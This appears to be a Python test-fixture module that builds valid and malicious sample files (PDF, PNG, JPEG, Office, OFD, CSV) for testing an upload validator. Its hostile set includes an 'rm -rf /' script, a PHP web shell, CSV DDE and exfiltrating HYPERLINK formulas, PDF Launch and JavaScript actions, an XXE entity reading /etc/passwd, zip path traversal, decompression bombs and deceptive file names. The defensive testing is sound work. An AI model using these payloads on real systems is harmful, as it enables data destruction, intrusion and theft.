"""Files for the tests of evidence: good ones, and every way to make one that is not taken."""

import io
import struct
import zipfile
import zlib

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def pdf(*objects: bytes, trailer: bytes = b"", end: bytes = b"") -> bytes:
    """A small PDF with one page, further objects, and what stands in its trailer."""
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        *objects,
    ]
    body, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, part in enumerate(parts, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    start = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1)
    body += b"".join(b"%010d 00000 n \n" % place for place in places)
    body += b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (len(parts) + 1, trailer)
    return body + b"startxref\n%d\n%%%%EOF\n" % start + end


def packed_objects(content: bytes, name: bytes = b"/ObjStm", squeeze: bool = True) -> bytes:
    """A stream of PDF objects, compressed."""
    text = b"10 0 " + content
    data = zlib.compress(text) if squeeze else text
    filtered = b"/Filter /FlateDecode " if squeeze else b""
    head = b"<< /Type %s /N 1 /First 5 %s/Length %d >>" % (name, filtered, len(data))
    return head + b"\nstream\n" + data + b"\nendstream"


def chunk(kind: bytes, data: bytes = b"") -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 2, height: int = 2, extra: bytes = b"") -> bytes:
    """A PNG whose header says what it is told to, be its data as small as that."""
    rows = zlib.compress(b"".join(b"\0" + bytes(3 * min(width, 4)) for _ in range(min(height, 4))))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = chunk(b"IHDR", header) + extra + chunk(b"IDAT", rows) + chunk(b"IEND")
    return b"\x89PNG\r\n\x1a\n" + parts


def jpeg(width: int = 2, height: int = 2, comment: bytes = b"") -> bytes:
    """A JPEG as its markers go; nobody decodes what stands between them."""
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00"
    parts = [(0xE0, b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"), (0xDB, b"\0" + bytes([1] * 64))]
    if comment:
        parts.append((0xFE, comment))
    parts += [(0xC0, frame), (0xC4, b"\0" + bytes(16)), (0xDA, b"\x01\x01\x00\x00\x3f\x00")]
    segments = b"".join(
        bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data for marker, data in parts
    )
    return b"\xff\xd8" + segments + b"\x00\xff\x00\x12\xff\xd0\x34" + b"\xff\xd9"


def webp(width: int = 2, height: int = 2) -> bytes:
    """A WebP that says its size and holds nothing."""
    bits = (width - 1) | (height - 1) << 14
    data = b"\x2f" + struct.pack("<I", bits) + bytes(5)
    body = b"WEBP" + b"VP8L" + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", len(body)) + body


def package(parts: dict[str, bytes | str], comment: bytes = b"") -> bytes:
    """A ZIP archive of these parts."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        archive.comment = comment
    return file.getvalue()


MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation"),
}
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relationships(kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="r1" Type="{RELATIONSHIPS}/{kind}" Target="{target}"'
        f"{mode}/></Relationships>"
    )


def office(
    kind: str = "docx",
    parts: dict[str, bytes | str] | None = None,
    types: str = "",
    main: str = ".main+xml",
) -> bytes:
    """A document of Word, Excel or PowerPoint, with further parts and declared types."""
    name, family = MAIN[kind]
    base = "application/vnd.openxmlformats-officedocument."
    return package(
        {
            "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxml'
            'formats.org/package/2006/content-types"><Default Extension="rels" ContentType='
            '"application/vnd.openxmlformats-package.relationships+xml"/><Override PartName='
            f'"/{name}" ContentType="{base}{family}{main}"/>{types}</Types>',
            "_rels/.rels": relationships("officeDocument", name, external=False),
            name: '<?xml version="1.0"?><root>正文</root>',
            **(parts or {}),
        }
    )


def ofd(root: str = "http://www.ofdspec.org/2016", parts: dict[str, bytes | str] | None = None):
    document = f'<?xml version="1.0"?><ofd:OFD xmlns:ofd="{root}" Version="1.1"/>'
    return package({"OFD.xml": document, "Doc_0/Document.xml": "<a/>", **(parts or {})})


def override(content_type: str) -> str:
    return f'<Override PartName="/x" ContentType="{content_type}"/>'


GOOD: dict[str, tuple[str, bytes]] = {
    "pdf": ("备案证明.pdf", pdf()),
    "pdf, signed": ("合同.PDF", pdf(b"<< /Type /Sig /Filter /Adobe.PPKLite >>")),
    "pdf, packed": ("评估报告.pdf", pdf(packed_objects(b"<< /Type /Page /A (JavaScript) >>"))),
    "png": ("截图.png", png()),
    "png with markup far inside": ("截图.png", png(extra=chunk(b"tEXt", bytes(1200) + b"<html>"))),
    "jpeg": ("扫描件.jpg", jpeg()),
    "jpeg, preview behind it": ("照片.jpeg", jpeg() + jpeg() + bytes(64)),
    "webp": ("截图.webp", webp()),
    "docx": ("制度.docx", office("docx")),
    "docx with a link to read": (
        "制度.docx",
        office(
            "docx", {"word/_rels/document.xml.rels": relationships("hyperlink", "https://a.cn")}
        ),
    ),
    "docx with a chart": (
        "报告.docx",
        office("docx", {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": office("xlsx")}),
    ),
    "xlsx": ("台账.xlsx", office("xlsx", {"xl/printerSettings/printerSettings1.bin": b"\0" * 80})),
    "pptx": ("培训.pptx", office("pptx")),
    "ofd": ("公文.ofd", ofd()),
    "text": ("说明.txt", "第一行\r\n\t第二行 -5 + 3".encode()),
    "text in GB18030": ("说明.txt", "企业自查说明".encode("gb18030")),
    "text with a mark": ("说明.txt", "\ufeff企业自查说明".encode()),
    "csv": ("台账.csv", "名称,数量\n甲,-5\n乙,=A1+B1\n".encode()),
    "json named txt": ("接口.txt", b'{"a": 1}'),
}

PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PROGRAM = b"MZ\x90\x00\x03" + bytes(200)
ZIP = package({"a.txt": "x"})
MACROS = "application/vnd.ms-office.vbaProject"
LIE = package({"[Content_Types].xml": "<Types/>"}).replace(b"PK\x05\x06", b"PK\x05\x07")


def bomb() -> bytes:
    """A document of Word that becomes a thousand times larger."""
    return office("docx", {"word/media/image1.bmp": bytes(30_000_000)})


def overlapping() -> bytes:
    """An archive whose parts are all the same bytes."""
    data = office("docx", {"word/media/a.bin": bytes(range(256)) * 20})
    end = data.rindex(b"PK\x05\x06")
    count, size, start = struct.unpack("<10xHII2x", data[end:])
    entry = data[start : start + size]
    last = entry[entry.rindex(b"PK\x01\x02") :]
    more = b"".join(last.replace(b"a.bin", b"%d.bin" % n) for n in range(9))
    tail = struct.pack(
        "<4s4xHHIIH", b"PK\x05\x06", count + 9, count + 9, size + len(more), start, 0
    )
    return data[:end] + more + tail


def encrypted_parts() -> bytes:
    """An archive that says that its parts are encrypted."""
    data = bytearray(office("docx"))
    place = data.find(b"PK\x01\x02")
    while place >= 0:
        data[place + 8] |= 1
        place = data.find(b"PK\x01\x02", place + 4)
    return bytes(data)


EXTERNAL = "word/_rels/document.xml.rels"

HOSTILE: dict[str, bytes] = {
    # not of a kind that is taken
    "empty": b"",
    "web page": PAGE,
    "SVG": SVG,
    "SVG with a head": b'<?xml version="1.0"?>' + SVG,
    "program": PROGRAM,
    "program of another system": b"\x7fELF\x02\x01\x01" + bytes(100),
    "class of Java": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(100),
    "shell script": b"#!/bin/sh\nrm -rf /\n",
    "PHP": b"<?php system($_GET['c']); ?>",
    "batch file": b"@echo off\r\ndel *.*\r\n",
    "internet shortcut": b"[InternetShortcut]\r\nURL=file:///c:/windows\r\n",
    "RTF": b"{\\rtf1\\ansi{\\object\\objdata 0105}}",
    "PostScript": b"%!PS-Adobe-3.0\n(x) run\n",
    "archive": ZIP,
    "empty archive": b"PK\x05\x06" + bytes(18),
    "rar": b"Rar!\x1a\x07\x01\x00" + bytes(50),
    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(50),
    "gzip": b"\x1f\x8b\x08\x00" + bytes(50),
    "GIF": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    "HEIC": b"\x00\x00\x00\x18ftypheic" + bytes(50),
    "MP4": b"\x00\x00\x00\x18ftypisom" + bytes(50),
    "old Word": OLE,
    "Word with a password": OLE + "EncryptedPackage".encode("utf-16-le") + bytes(64),
    "noise": bytes(range(256)) * 8,
    "half a surrogate": b"\xed\xa0\x80 text",
    "UTF-16": "第一行".encode("utf-16"),
    "text with control characters": b"line\x00one\x1b[2J",
    "spreadsheet command": b"a,b\n=cmd|'/C calc'!A0,1\n",
    "spreadsheet link": b'a,b\n"=HYPERLINK(""http://x.cn?""&A1)",1\n',
    # PDF
    "PDF behind something": b"GIF89a" + pdf(),
    "PDF behind a page": PAGE + pdf(),
    "PDF with a page in its head": b"%PDF-1.7\n" + PAGE + pdf(),
    "PDF cut off": pdf()[:-30],
    "PDF that is only a head": b"%PDF-1.7\n",
    "PDF with JavaScript": pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
    "PDF with JavaScript, escaped": pdf(b"<< /S /J#61vaScript /JS (app.alert(1)) >>"),
    "PDF with JavaScript, packed": pdf(packed_objects(b"<< /S /JavaScript /JS (x) >>")),
    "PDF with JavaScript, both": pdf(packed_objects(b"<</S/J#61vaScript>>", b"/Obj#53tm")),
    "PDF that cannot be unpacked": pdf(
        packed_objects(b"x" * 50).replace(b"stream\nx", b"stream\n")
    ),
    "PDF that starts a program": pdf(b"<< /S /Launch /F (cmd.exe) >>"),
    "PDF with a file": pdf(b"<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream"),
    "PDF with a form that sends": pdf(b"<< /S /SubmitForm /F (http://x.cn) >>"),
    "PDF with XFA": pdf(b"<< /XFA [ (a) 5 0 R ] >>"),
    "PDF with a password": pdf(trailer=b"/Encrypt 9 0 R"),
    "PDF and archive": pdf() + ZIP,
    "PDF and archive, ended again": pdf() + ZIP + b"\n%%EOF",
    "PDF and page": pdf(end=PAGE),
    # pictures
    "PNG and archive": png() + ZIP,
    "PNG and page": png() + PAGE,
    "PNG with a page in its head": png(extra=chunk(b"tEXt", PAGE)),
    "PNG cut off": png()[:-12],
    "PNG with a wrong checksum": png().replace(b"IDAT", b"IDAT\0", 1),
    "PNG that is only a head": b"\x89PNG\r\n\x1a\n",
    "huge PNG": png(60_000, 60_000),
    "huge PNG by its area": png(20_000, 20_000),
    "long PNG": png(40_000, 1),
    "JPEG and archive": jpeg() + ZIP,
    "JPEG and page": jpeg() + PAGE,
    "JPEG with a page in its head": jpeg(comment=PAGE),
    "JPEG with a PDF in its head": jpeg(comment=b"%PDF-1.4"),
    "JPEG cut off": jpeg()[:-2],
    "JPEG that is only a head": b"\xff\xd8\xff\xe0",
    "huge JPEG": jpeg(65_000, 65_000),
    "WebP and page": webp() + PAGE,
    "WebP cut off": webp()[:-4],
    "huge WebP": webp(16_000, 16_000),
    "WebP without a picture": b"RIFF\x04\x00\x00\x00WEBP",
    # packages
    "Word with macros": office("docx", {"word/vbaProject.bin": OLE}),
    "Word with macros, renamed": office("docx", {"word/x.dat": OLE}),
    "Word with macros, declared": office("docx", types=override(MACROS)),
    "Word for macros": office("docx").replace(b"x", b"x"),
    "Excel for macros": office("xlsx", main=".macroEnabled.main+xml"),
    "Excel with old macros": office("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"}),
    "PowerPoint with ActiveX": office("pptx", {"ppt/activeX/activeX1.xml": "<a/>"}),
    "Word with an object": office("docx", {"word/embeddings/oleObject1.bin": OLE}),
    "Word with a program": office("docx", {"word/media/image1.png": PROGRAM}),
    "Word with an archive": office("docx", {"word/media/image1.png": ZIP}),
    "Word with a page": office("docx", {"word/media/image1.png": PAGE}),
    "Word with an attachment": office("docx", {"word/embeddings/a.pdf": pdf()}),
    "Word with macros in its chart": office(
        "docx", {"word/embeddings/a.xlsx": office("xlsx", {"xl/vbaProject.bin": OLE})}
    ),
    "Word with a remote template": office(
        "docx", {EXTERNAL: relationships("attachedTemplate", "https://x.cn/t.dotm")}
    ),
    "Word with a remote picture": office(
        "docx", {EXTERNAL: relationships("image", "https://x.cn/1.png")}
    ),
    "Word with a link that runs": office(
        "docx", {EXTERNAL: relationships("hyperlink", "javascript:alert(1)")}
    ),
    "Word with an entity": office(
        "docx", {"word/a.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}
    ),
    "Word in UTF-16": office("docx", {"word/a.xml": "<a>DDEAUTO</a>".encode("utf-16")}),
    "Word with DDE": office("docx", {"word/a.xml": "<w:instrText>DDEAUTO c:\\cmd</w:instrText>"}),
    "Excel with DDE": office("xlsx", {"xl/externalLinks/a.xml": "<ddeLink/>"}),
    "Word that leads out": office("docx", {"../../etc/passwd": "x"}),
    "Word that leads out another way": office("docx", {"..\\..\\windows\\a": "x"}),
    "Word with a part twice": office("docx", {"WORD/document.xml": "<a/>"}),
    "Word with too many parts": office("docx", {f"word/{n}": "" for n in range(5_001)}),
    "bomb": bomb(),
    "overlapping parts": overlapping(),
    "parts with a password": encrypted_parts(),
    "Word behind something": b"junk" + office("docx"),
    "Word behind a page": PAGE + office("docx"),
    "Word and page": office("docx") + PAGE,
    "Word with words at its end": package({"[Content_Types].xml": "<Types/>"}, comment=PAGE),
    "Word that is no document": package({"[Content_Types].xml": "<Types/>"}),
    "Word without its end": office("docx")[:-22],
    "Word with a broken part": office("docx").replace(
        b"\x05word/document.xml", b"\x05word/d.xml", 1
    ),
    "Word whose list is no XML": package({"[Content_Types].xml": "<Types"}),
    "Word and OFD": office("docx", {"OFD.xml": "<a/>"}),
    "OFD of another kind": ofd(root="http://example.com"),
    "OFD with a program": ofd(parts={"Doc_0/Res/a.png": PROGRAM}),
    "OFD with an attachment": ofd(parts={"Doc_0/Attachs/a.exe": b"x"}),
    "EPUB": package({"mimetype": "application/epub+zip"}),
    "JAR": package({"META-INF/MANIFEST.MF": "Main-Class: A"}),
    "Android app": package({"AndroidManifest.xml": "x", "classes.dex": "dex\n035"}),
}
del HOSTILE["Word for macros"], HOSTILE["Word with a broken part"]

IMPOSSIBLE_NAMES = {
    "path": "../../etc/passwd.pdf",
    "absolute path": "/etc/passwd.pdf",
    "path of Windows": "C:\\Windows\\a.pdf",
    "path, written otherwise": "..&#47;a.pdf",
    "line break": "a\\nb.pdf".replace("\\n", "\x0b"),
    "NUL": "a.pdf\x00.exe",
    "bell": "a\x07.pdf",
    "turned direction": "a\u202efdp.pdf",
    "turned direction, newer": "a\u2067fdp.pdf",
}
"""Names that no browser sends."""
STRANGE_NAMES = {
    "300 characters": "长" * 296 + ".pdf",
    "201 characters": "a" * 197 + ".pdf",
    "no ending": "备案证明",
    "only an ending": ".pdf",
    "dot at the end": "备案证明.",
    "program's ending": "备案证明.pdf.exe",
    "web page's ending": "备案证明.html",
    "another kind's ending": "备案证明.png",
    "stars": "备案*证明?.pdf",
    "markup": "<script>.pdf",
    "stream of Windows": "a.pdf:b.pdf",
}
ENDINGS = ("pdf", "png", "jpg", "docx", "xlsx", "txt", "csv", "ofd")
DECLARED = ("application/pdf", "image/png", "text/html", "image/svg+xml", "text/plain", "")
